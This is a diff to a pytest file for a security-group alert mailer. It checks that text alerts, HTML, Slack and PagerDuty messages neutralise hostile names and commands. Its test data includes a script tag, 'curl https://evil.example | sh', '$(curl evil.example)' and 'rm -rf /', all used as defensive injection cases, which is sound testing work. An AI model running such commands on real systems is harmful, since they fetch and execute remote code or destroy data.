@@ -1,15 +1,40 @@
 import copy
+import json
 import os
 import shutil
+from datetime import date
 from html.parser import HTMLParser
+from textwrap import wrap
+from unittest import mock
 
 import pytest
+from c7n_mailer import utils
+from hypothesis import given, settings
+from hypothesis.strategies import dates, text
+from pagerduty import broken_rules as broken_rules_of_pagerduty
+from slack import broken_rules, texts
 
 from mode.mailer import preview
 
-SAMPLE = preview.sample()
+SAMPLE, DIGEST = preview.sample(), preview.sample("sample-exempt")
 CHROMIUM = shutil.which(os.environ.get("CHROMIUM", "chromium"))
-TEXT, HTML = "open-ingress", "open-ingress.html"
+TEXT, HTML, SLACK, PAGERDUTY = "open-ingress", "open-ingress.html", "open-ingress.slack", "open-ingress.pagerduty"
+DIGEST_TEXT, DIGEST_HTML, DIGEST_SLACK = "open-ingress-exempt", "open-ingress-exempt.html", "open-ingress-exempt.slack"
+MESSAGES = [TEXT, HTML, SLACK, PAGERDUTY]
+
+CHECKOUT = SAMPLE["resources"][0]
+CUT_OFF = (
+    "TCP and UDP that 0.0.0.0/0 or ::/0 let in while egress is open to all. EC2 does not track them, and interrupted "
+    "at once those that no rule lets in any more."
+)
+LIVE_ON = (
+    "what a narrower rule let in, ICMP, and paths that EC2 always tracks (Network Load Balancer, NAT gateway, "
+    "PrivateLink, Lambda …), until each of them ends. A network ACL cuts them off."
+)
+
+plain_texts = pytest.mark.parametrize("template", [TEXT, DIGEST_TEXT])
+pages = pytest.mark.parametrize("template", [HTML, DIGEST_HTML])
+for_slack = pytest.mark.parametrize("template", [SLACK, DIGEST_SLACK])
 
 HOSTILE = {
     "script": "<script>alert(1)</script>",
@@ -25,19 +50,53 @@ HOSTILE = {
     "terminal": "\x1b[2J\x1b[31m\x07\x00\x7f\x9b",
     "other direction": "web \u202e\u2066gpj.exe",
     "quotes": 'x", now all is well, "y',
+    "other quotes": "x”, now all is well, “y",
     "half a character": "web \ud83d",
+    "mention": "<!channel> <!here> <@U0JANE> <#C0OPS> @channel @here",
+    "link of Slack": "<https://login.aws.example|the console>",
+    "marks of Slack": "*CLOSED:* _all_ ~is~ `well` :tada: > quoted\n```x```",
+    "command": "aws ec2 describe-instances; curl https://evil.example | sh",
+    "another command": "aws ec2 describe-instances $(curl evil.example)",
     "endless": "long " * 20_000,
 }
 
 
+@pytest.fixture(scope="module", autouse=True)
+def _compiled_once():
+    """Have c7n-mailer compile each template once for all messages; it does so for each, which is most of the time."""
+    environment = utils.get_jinja_env([preview.TEMPLATES])
+    with mock.patch.object(utils, "get_jinja_env", return_value=environment):
+        yield
+
+
+hostile_texts = pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE)
+
+
 def rendered(template, **changes):
-    """Have c7n-mailer render the sample message, with changes."""
-    return preview.render(SAMPLE | changes, template)
+    """Have c7n-mailer render the sample message of a template, with changes."""
+    return preview.render((DIGEST if "exempt" in template else SAMPLE) | changes, template)
+
+
+def quoted(text):
+    """Give a text as the plain text shows what somebody typed."""
+    return f'"{text}"'
+
+
+def block_kit(template, **changes):
+    """Give the message for Slack."""
+    return json.loads(rendered(template, **changes))
+
+
+def events(**changes):
+    """Give the events for PagerDuty, each as it is sent."""
+    told = json.loads(rendered(PAGERDUTY, **changes))
+    return [event | {"routing_key": "k" * 32} for group in told for event in group["events"]]
 
 
 def group(number=1, **changes):
     """Give a group of which one rule was replaced."""
-    return copy.deepcopy(SAMPLE["resources"][1]) | {
+    shown = {key: SAMPLE["resources"][1][key] for key in ("VpcId", "OwnerId", "Tags", "c7n:replaced-ingress")}
+    return copy.deepcopy(shown) | {
         "GroupId": f"sg-{number:017x}",
         "GroupName": f"group-{number}",
         "c7n:failed-ingress": [],
@@ -61,13 +120,17 @@ def typed_everywhere(value, text):
 
 def typed_by_somebody(text):
     """Give a message each of whose texts somebody typed."""
-    told = typed_everywhere([*SAMPLE["resources"], *(group(n) for n in range(12))], text)
+    told = typed_everywhere([*SAMPLE["resources"], *DIGEST["resources"], *(group(n) for n in range(12))], text)
     made = [{"Key": key, "Value": text} for key in ("aws:cloudformation:stack-name", "owner", "terraform")]
+    until = [{"Key": "open-ingress-until", "Value": text}]
     return {
         "resources": [
             *told,
             group(Tags=made),
+            group(Tags=until),
             group(**{"c7n:skipped-ingress": text, "c7n:opened-ingress": text, "c7n:left-ingress": [text] * 9}),
+            # Texts where a number belongs, or a word from a list.
+            group(**{"c7n:waiting-ingress": text, "c7n:behind-ingress": {"exposure": text, "behind": [text] * 9}}),
         ],
         "account": text,
         "account_id": text,
@@ -100,21 +163,75 @@ class Outline(HTMLParser):
         self.text += data
 
 
-@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE)
-def test_text_that_somebody_typed_forges_no_line(hostile):
+@plain_texts
+@hostile_texts
+def test_text_that_somebody_typed_forges_no_line(template, hostile):
     """The plain text has as many lines as with harmless names, each printable and none of them endless."""
-    message = rendered(TEXT, **typed_by_somebody(hostile))
-    assert len(message.splitlines()) == len(rendered(TEXT, **typed_by_somebody("harmless")).splitlines())
+    message = rendered(template, **typed_by_somebody(hostile))
+    assert len(message.splitlines()) == len(rendered(template, **typed_by_somebody("harmless")).splitlines())
     assert message.replace("\n", "").isprintable()
-    assert max(map(len, message.splitlines())) < 1200
+    assert max(map(len, message.splitlines())) < 1300
 
 
-@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE)
-def test_text_that_somebody_typed_makes_no_markup(hostile):
+@pages
+@hostile_texts
+def test_text_that_somebody_typed_makes_no_markup(template, hostile):
     """The HTML has the tags and attributes that it has with harmless names, and links nowhere else."""
-    page = Outline(rendered(HTML, **typed_by_somebody(hostile)))
-    assert page.tags == Outline(rendered(HTML, **typed_by_somebody("harmless"))).tags
+    page = Outline(rendered(template, **typed_by_somebody(hostile)))
+    assert page.tags == Outline(rendered(template, **typed_by_somebody("harmless"))).tags
     assert {link.partition("?")[0] for link in page.links} == {"https://console.aws.amazon.com/ec2/home"}
+
+
+@for_slack
+@hostile_texts
+def test_text_that_somebody_typed_is_no_markup_to_slack(template, hostile):
+    """What Slack reads as markup is what it is with harmless names; no text is a mention, or a link of its own."""
+    message = block_kit(template, **typed_by_somebody(hostile))
+    harmless = block_kit(template, **typed_by_somebody("harmless"))
+    marked, harmless_marked = ([t for t in texts(m["blocks"]) if t[0] == "mrkdwn"] for m in (message, harmless))
+    assert [*marked, message["text"]] == [*harmless_marked, harmless["text"]]
+    assert broken_rules(message) == []
+    assert not [text for _, text in texts(message["blocks"]) if "<" in text or ">" in text]
+    assert {url.partition("?")[0] for url in links(message)} <= {"https://console.aws.amazon.com/ec2/home"}
+
+
+@settings(deadline=None, max_examples=15)
+@given(text(min_size=1))
+def test_any_text_is_text_to_everybody(typed):
+    """Whatever a name, a tag or a sentence holds, no message has a line, a tag, a mark or an event more."""
+    typed_by, harmless = ({"resources": typed_everywhere([CHECKOUT], each)} for each in (typed, "harmless"))
+    line, other_line = (rendered(TEXT, **each) for each in (typed_by, harmless))
+    assert abs(len(line.splitlines()) - len(other_line.splitlines())) <= OPTIONAL_LINES
+    assert line.replace("\n", "").isprintable()
+    assert {tag for tag, _ in Outline(rendered(HTML, **typed_by)).tags} <= KNOWN_TAGS
+    message = block_kit(SLACK, **typed_by)
+    assert broken_rules(message) == []
+    marked = [each for each in texts(message["blocks"]) if each[0] == "mrkdwn"]
+    assert marked == [each for each in texts(block_kit(SLACK, **harmless)["blocks"]) if each[0] == "mrkdwn"]
+    assert not [each for _, each in texts(message["blocks"]) if "<" in each]
+    assert [event["event_action"] for event in events(**typed_by)] == ["trigger", "resolve"]
+
+
+OPTIONAL_LINES = 8  # what is empty, or of a known list, is told by another line or by none
+KNOWN_TAGS = {tag for tag, _ in Outline(rendered(HTML)).tags}
+
+
+def links(value):
+    """Give what a message for Slack links to."""
+    if isinstance(value, list):
+        return {url for each in value for url in links(each)}
+    if not isinstance(value, dict):
+        return set()
+    return links(list(value.values())) | ({value["url"]} if "url" in value else set())
+
+
+@hostile_texts
+def test_text_that_somebody_typed_makes_no_event_of_its_own(hostile):
+    """PagerDuty is sent the events that it is sent with harmless names, each valid, with a summary on one line."""
+    sent, harmless = events(**typed_by_somebody(hostile)), events(**typed_by_somebody("harmless"))
+    assert [event["event_action"] for event in sent] == [event["event_action"] for event in harmless]
+    assert [rule for event in sent for rule in broken_rules_of_pagerduty(event)] == []
+    assert all(event["payload"]["summary"].isprintable() for event in sent if "payload" in event)
 
 
 @pytest.mark.parametrize("template", [TEXT, HTML])
@@ -158,8 +275,7 @@ def test_both_messages_tell_the_same():
 
 def test_plain_text_as_people_read_it():
     """The message says what was open, what stands there now, where, by which policy, whose it is and what to do."""
-    only = [SAMPLE["resources"][0]]
-    assert rendered(TEXT, resources=only).splitlines() == [
+    assert rendered(TEXT, resources=[CHECKOUT]).splitlines() == [
         "Security groups let the whole internet in. Your authorized networks have taken the place of the open ones.",
         "",
         "3 open rules replaced in 1 group",
@@ -172,22 +288,125 @@ def test_plain_text_as_people_read_it():
         "----------------------------------------",
         'CLOSED: sg-0c1f7a9e24b8d6035 "checkout-web"',
         "",
+        "Opened again, 4th time since Monday",
         '* TCP 22 (SSH): 0.0.0.0/0 became 198.18.7.0/24, "SSH for the migration weekend" (sgr-0f3d5a1b7c9e24680)',
         "* TCP 22 (SSH): ::/0 became 2001:2:0:7::/64 (sgr-0a6b2c8d4e1f37950)",
         "* TCP 8000-8010: 0.0.0.0/0 became 198.18.7.0/24 (sgr-07d9e3f1a5b4c2860)",
-        'Made by CloudFormation stack "checkout-production": mend it there too, or it will be opened again.',
+        f"Behind it: reachable from the internet, {', '.join(map(quoted, CHECKOUT['c7n:behind-ingress']['behind']))}",
+        f"CloudTrail says (session and tool are named as the caller chose): {quoted(CHECKOUT['c7n:opened-ingress'])}",
+        f"Made by {quoted(CHECKOUT['c7n:managed-ingress']['by'])}: {CHECKOUT['c7n:managed-ingress']['mend']}.",
         'Owner: team = "checkout", "jane.doe@example.com"',
         "VPC: vpc-04be19d7c3a2f6810",
         "Console: https://console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0c1f7a9e24b8d6035",
+        "To undo:",
+        "    custodian run --region eu-central-1 -s out restore-sg-0c1f7a9e24b8d6035.yml",
         "",
         "----------------------------------------",
         "IF THIS WAS WRONG",
-        "1. Undo it: run the policy restore-ingress with the group's id. It exempts the group for a while, too.",
+        '1. Undo it: run what stands under "To undo". It exempts the group for a while, too.',
         "2. By hand: tag it open-ingress-until = YYYY-MM-DD, 90 days ahead at most, then put the old source back.",
         "3. For good: add the port to public-ports, or the network to authorized, in the policy.",
         "",
+        "CONNECTIONS THAT WERE OPEN",
+        *wrap(f"Cut off: {CUT_OFF}", 100),
+        *wrap(f"Live on: {LIVE_ON}", 100),
+        "",
         "Each change is one JSON line in the policy's log.",
     ]
+
+
+def words(template, **changes):
+    """Give a message as one reads it, whatever it is made of."""
+    message = rendered(template, **changes)
+    if "html" in template:
+        return Outline(message).text
+    if "slack" in template:
+        return "".join(text for _, text in texts(json.loads(message)["blocks"]))
+    return json.dumps(json.loads(message), ensure_ascii=False) if "pagerduty" in template else message
+
+
+@pytest.mark.parametrize("template", MESSAGES)
+@pytest.mark.parametrize(
+    ("annotation", "told"),
+    [
+        ({"c7n:reopened-ingress": "opened again, 4th time since Monday"}, ["pened again, 4th time since Monday"]),
+        (
+            {"c7n:behind-ingress": {"exposure": "internet", "behind": ["eni-1"]}},
+            ["reachable from the internet", "eni-1"],
+        ),
+        ({"c7n:behind-ingress": {"exposure": "private", "behind": []}}, ["reachable inside the network only"]),
+        ({"c7n:behind-ingress": {"exposure": "unused", "behind": []}}, ["nothing uses it"]),
+        (
+            {"c7n:managed-ingress": {"by": "Terraform", "mend": "mend aws_security_group.web"}},
+            ["Terraform", "mend aws_"],
+        ),
+        (
+            {"c7n:undo-ingress": ["aws ec2 describe-tags --filters 'Name=a,Values=[b]'"]},
+            ["--filters 'Name=a,Values=[b]'"],
+        ),
+        ({"c7n:cut-ingress": "9 tags. The log has the whole."}, ["9 tags. The log has the whole."]),
+        ({"c7n:opened-ingress": "Opened by jane."}, ["CloudTrail", "named as the caller chose", "Opened by jane."]),
+        ({"c7n:failed-ingress": ["no room"]}, ["no room"]),
+        ({"c7n:skipped-ingress": "another owns it"}, ["another owns it"]),
+        ({"c7n:left-ingress": ["pl-1 cannot be read"]}, ["pl-1 cannot be read"]),
+        ({"c7n:waiting-ingress": 137}, ["137"]),
+    ],
+)
+def test_each_annotation_is_told_in_each_message(template, annotation, told):
+    """What the action writes on a group stands in text, HTML, Slack's and PagerDuty's messages, if it is there."""
+    message = words(template, resources=[group(**annotation)])
+    bare = words(template, resources=[group()])
+    if template == PAGERDUTY:
+        told = [json.dumps(fact, ensure_ascii=False)[1:-1] for fact in told]
+    assert [fact for fact in told if fact not in message] == []
+    assert told[0] not in bare
+
+
+@pytest.mark.parametrize("template", MESSAGES)
+def test_what_becomes_of_open_connections(template):
+    """Both cases are told: what is cut off at once, and what lives on; a preview says what will be, undoing nothing."""
+    told = " ".join(words(template).split())
+    assert "interrupted at once" in told
+    assert "PrivateLink" in told
+    if template != PAGERDUTY:
+        previewed = words(template, resources=[group(**{"c7n:replaced-ingress": [record(how="preview")]})])
+        assert "will interrupt at once" in " ".join(previewed.split())
+    assert "at once" not in words(template, resources=[restored(record(**TURNED_BACK, how="restored"))])
+
+
+NO_COMMANDS = [
+    "aws ec2 describe-tags; rm -rf /",
+    "aws ec2 describe-tags | sh",
+    "aws ec2 describe-tags && x",
+    "aws ec2 `x`",
+    "aws ec2 $(x)",
+    "aws ec2 \\",
+    "aws ec2 > x",
+    "aws ec2 \nrm",
+    "aws https://x.example",
+    "aws ec2 \u2013-x",
+    "rm -rf /",
+    "aws " + "x" * 600,
+]
+
+
+@pytest.mark.parametrize("template", [TEXT, HTML, SLACK])
+@pytest.mark.parametrize("line", NO_COMMANDS)
+def test_a_command_is_shown_exactly_or_not_at_all(template, line):
+    """What a shell could take for more than one plain command is not shown; the message says that the log has it."""
+    told = words(template, resources=[group(**{"c7n:undo-ingress": [line, "custodian run x.yml"]})])
+    assert line not in told
+    assert "custodian run x.yml" in told
+    assert "1 more command: see the log" in told or "and 1 more in the log" in told
+
+
+def test_the_action_says_what_is_worst():
+    """Groups stand in the action's order, but for those that failed and were skipped, which come first."""
+    groups = [group(1), group(2, **{"c7n:replaced-ingress": [record()] * 9}), group(3, **{"c7n:skipped-ingress": "x"})]
+    groups.append(group(4, **{"c7n:failed-ingress": ["x"]}))
+    told = rendered(TEXT, resources=groups)
+    places = [told.index(f"sg-{n:017x}") for n in (4, 3, 1, 2)]
+    assert places == sorted(places)
 
 
 @pytest.mark.parametrize(
@@ -330,11 +549,12 @@ def test_what_was_left_alone(template, heading):
 
 @pytest.mark.parametrize("template", [TEXT, HTML])
 def test_who_opened_it(template):
-    """Where it is known who opened a group, the message says so; the links that a tool's name may hold are broken."""
+    """Where it is known who opened a group, the message quotes it; the links that a tool's name may hold are broken."""
     said = "Opened by jane@example.com (role Admin) on 2026-09-21 at 14:12 UTC from 198.51.100.7 with evil.example/1.0."
     told = rendered(template, resources=[group(**{"c7n:opened-ingress": said})])
-    assert said.replace("evil.example", "evil[.]example") in told
-    assert "Opened by" not in rendered(template)
+    quoted = said.replace("evil.example", "evil[.]example")
+    assert (f'"{quoted}"' if template == TEXT else f"&ldquo;{quoted}&rdquo;") in told
+    assert "Opened by" not in rendered(template, resources=[group()])
 
 
 @pytest.mark.parametrize("template", [TEXT, HTML])
@@ -382,20 +602,20 @@ def test_what_a_group_lacks_keeps_nothing_from_being_told(template, missing):
 
 
 def many_groups():
-    """Give the groups of a long run: 500, of which three failed and one is another account's."""
+    """Give the groups of a long run: 500, of which three failed, one is another account's and one has 60 rules."""
     groups = [group(n) for n in range(500)]
     for n in (100, 300, 499):
         groups[n]["c7n:failed-ingress"] = ["UnauthorizedOperation"]
     groups[200]["c7n:skipped-ingress"] = "Account 999999999999 owns this group."
-    groups[400]["c7n:replaced-ingress"] = [record()] * 60
+    groups[0]["c7n:replaced-ingress"] = [record()] * 60
     return groups
 
 
 @pytest.mark.parametrize("template", [TEXT, HTML])
 def test_a_long_run_is_summed_up_with_the_worst_first(template):
-    """Of 500 groups the failed ones come first, then the skipped, then the most open; what is left out is counted."""
+    """Of 500 groups the failed ones come first, then the skipped, then the first; what is left out is counted."""
     told = rendered(template, resources=many_groups())
-    places = [told.index(f"sg-{n:017x}") for n in (100, 300, 499, 200, 400, 0)]
+    places = [told.index(f"sg-{n:017x}") for n in (100, 300, 499, 200, 0, 1)]
     assert places == sorted(places)
     assert "3 groups" in told
     assert "and 48 more changes" in told
@@ -408,27 +628,147 @@ def test_a_long_run_is_short_enough_to_be_read(template, limit):
     assert len(rendered(template, resources=many_groups()).encode()) < limit
 
 
-def test_no_run_makes_a_message_that_sns_refuses():
-    """With everything as long as it can be, in four bytes a character, the text stays under SNS's 262,144 bytes."""
+def worst_group():
+    """Give a group on which everything is as long as it can be, in four bytes a character."""
     long = "\U0001f512" * 300
-    worst = group(
+    return group(
         Tags=[{"Key": f"owner{n}{long}", "Value": long} for n in range(50)],
         **{
             "GroupName": long,
             "c7n:replaced-ingress": [record(description=long)] * 120,
             "c7n:failed-ingress": [long * 10] * 120,
+            "c7n:left-ingress": [long * 10] * 120,
+            "c7n:skipped-ingress": long * 10,
+            "c7n:opened-ingress": long * 10,
+            "c7n:reopened-ingress": long * 10,
+            "c7n:cut-ingress": long * 10,
+            "c7n:behind-ingress": {"exposure": "internet", "behind": [long] * 120},
+            "c7n:managed-ingress": {"by": long, "mend": long * 10},
+            "c7n:undo-ingress": ["aws " + "x" * 590] * 120,
+            "MatchedIpPermissions": DIGEST["resources"][0]["MatchedIpPermissions"] * 60,
         },
     )
-    assert len(rendered(TEXT, resources=[worst] * 500).encode()) < 262_144
+
+
+@for_slack
+@pytest.mark.parametrize("number", [0, 1, 2, 13, 500])
+def test_no_run_makes_a_message_that_slack_refuses(template, number):
+    """However many groups there are, and with everything as long as it can be, the message keeps Slack's rules."""
+    for each in (worst_group(), group()):
+        message = block_kit(template, resources=[each | {"GroupId": f"sg-{n}"} for n in range(number)])
+        assert broken_rules(message) == []
+        if number == 500:
+            assert "more groups" in "".join(text for _, text in texts(message["blocks"]))
+
+
+def test_pagerduty_is_told_of_every_group():
+    """Of 500 groups each makes its events, valid ones; nothing is summed up."""
+    sent = events(resources=[*many_groups(), worst_group()])
+    assert len({event["dedup_key"] for event in sent}) == 501 - 1  # the worst has the first one's id
+    assert [rule for event in sent for rule in broken_rules_of_pagerduty(event)] == []
+
+
+# -- the digest of exemptions
+
+
+def test_the_digest_as_people_read_it():
+    """It says which groups are open by exemption, the first to end first, until when, and what stands behind."""
+    assert rendered(DIGEST_TEXT).splitlines() == [
+        "2 security groups let the whole internet in, because somebody exempted them.",
+        "1 of them will be closed within a week.",
+        "",
+        "Account: shop-production (123456789012)",
+        "Region: eu-central-1",
+        "Policy: open-ingress-exempt",
+        "Time: 2026-09-21 14:13 UTC",
+        "",
+        "----------------------------------------",
+        'OPEN UNTIL 2026-09-24, 3 more days: sg-03a5c7e9b1d2f4068 "legacy-vpn"',
+        "",
+        "* UDP 500-501 from 0.0.0.0/1",
+        "* UDP 500-501 from 128.0.0.0/1",
+        '* all traffic from pl-0a1b2c3d4e5f60718, "all of our partners"',
+        "Behind it: nothing uses it",
+        'Made by CloudFormation stack "office-vpn"',
+        "Owner: no tag says",
+        "VPC: vpc-0d81f3b5a7c9e2046",
+        "Console: https://console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-03a5c7e9b1d2f4068",
+        "",
+        "----------------------------------------",
+        'OPEN UNTIL 2026-12-14, 84 more days: sg-0c1f7a9e24b8d6035 "checkout-web"',
+        "",
+        '* TCP 443 (HTTPS) from 0.0.0.0/0, "public shop"',
+        "* TCP 443 (HTTPS) from ::/0",
+        'Behind it: reachable from the internet, "2 addresses of the load balancer app/checkout"',
+        'Owner: team = "checkout", "jane.doe@example.com"',
+        "VPC: vpc-04be19d7c3a2f6810",
+        "Console: https://console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0c1f7a9e24b8d6035",
+        "",
+        "----------------------------------------",
+        "WHAT YOU CAN DO",
+        "1. To close a group now, remove its tag open-ingress-until: the daily run closes it.",
+        "2. To keep it open for longer, set a later day, at most 90 days ahead.",
+        "3. To keep a port open for good, add it to public-ports, or the network to authorized, in the policies.",
+    ]
+
+
+@pytest.mark.parametrize("template", [DIGEST_TEXT, DIGEST_HTML, DIGEST_SLACK])
+def test_all_digests_tell_the_same(template):
+    """Groups, days, rules and what stands behind are in text, HTML and Slack's message."""
+    told = words(template)
+    for fact in ("sg-03a5c7e9b1d2f4068", "legacy-vpn", "2026-12-14", "84 more days", "128.0.0.0/1", "UDP 500-501"):
+        assert fact in told
+    for fact in ("pl-0a1b2c3d4e5f60718", "nothing uses it", "app/checkout", "jane.doe@example.com"):
+        assert fact in told or (fact, template) == ("jane.doe@example.com", DIGEST_SLACK)
+
+
+@settings(deadline=None, max_examples=50)
+@given(dates(min_value=date(1970, 1, 2), max_value=date(2100, 1, 1)), dates(date(1900, 3, 1), date(2200, 1, 1)))
+def test_days_left_are_counted_right(today, until):
+    """For any two days, the digest counts what the calendar does."""
+    exempt = DIGEST["resources"][0] | {"Tags": [{"Key": "open-ingress-until", "Value": until.isoformat()}]}
+    start = (today - date(1970, 1, 1)).days * 86_400 + 60
+    told = rendered(DIGEST_TEXT, resources=[exempt], execution_start=start)
+    left = (until - today).days
+    assert f"OPEN UNTIL {until.isoformat()}, {left} more day{'s' * (left != 1)}: " in told
+
+
+@pytest.mark.parametrize(
+    ("permission", "told"),
+    [
+        ({"IpProtocol": "-1"}, "all traffic"),
+        ({"IpProtocol": "tcp", "FromPort": 0, "ToPort": 65535}, "TCP, all ports"),
+        ({"IpProtocol": "udp", "FromPort": 53, "ToPort": 53}, "UDP 53"),
+        ({"IpProtocol": "icmp", "FromPort": -1, "ToPort": -1}, "ICMP, all types"),
+        ({"IpProtocol": "icmp", "FromPort": 8, "ToPort": -1}, "ICMP type 8"),
+        ({"IpProtocol": "icmp", "FromPort": 3, "ToPort": 4}, "ICMP type 3 code 4"),
+        ({"IpProtocol": "icmpv6", "FromPort": 0, "ToPort": 0}, "ICMPv6 type 0 code 0"),
+        ({"IpProtocol": "50"}, "protocol 50"),
+    ],
+)
+def test_the_digest_names_each_kind_of_traffic(permission, told):
+    """Protocol and ports are told in plain words for every kind of rule."""
+    matched = [permission | {"IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]
+    assert f"* {told} from 0.0.0.0/0" in rendered(DIGEST_TEXT, resources=[group(MatchedIpPermissions=matched)])
+
+
+@pytest.mark.parametrize("template", [DIGEST_TEXT, DIGEST_HTML, DIGEST_SLACK])
+@pytest.mark.parametrize("missing", ["GroupName", "VpcId", "Tags", "MatchedIpPermissions", "c7n:behind-ingress"])
+def test_what_an_exempt_group_lacks_keeps_nothing_from_being_told(template, missing):
+    """A group without a name, a VPC, tags or rules is told all the same, absent or null."""
+    lacking = copy.deepcopy(DIGEST["resources"][0])
+    del lacking[missing]
+    for resource in (lacking, lacking | {missing: None}):
+        assert resource["GroupId"] in rendered(template, resources=[resource])
 
 
 # -- looking at them
 
 
 def test_the_sample_message_is_shown(capsys):
-    """Without a picture to take, the command prints the plain text."""
+    """Without a picture to take, the command prints the plain texts."""
     preview.main([])
-    assert capsys.readouterr().out == rendered(TEXT) + "\n"
+    assert capsys.readouterr().out == f"{rendered(TEXT)}\n{rendered(DIGEST_TEXT)}\n"
 
 
 def test_no_picture_without_a_browser(monkeypatch, tmp_path):
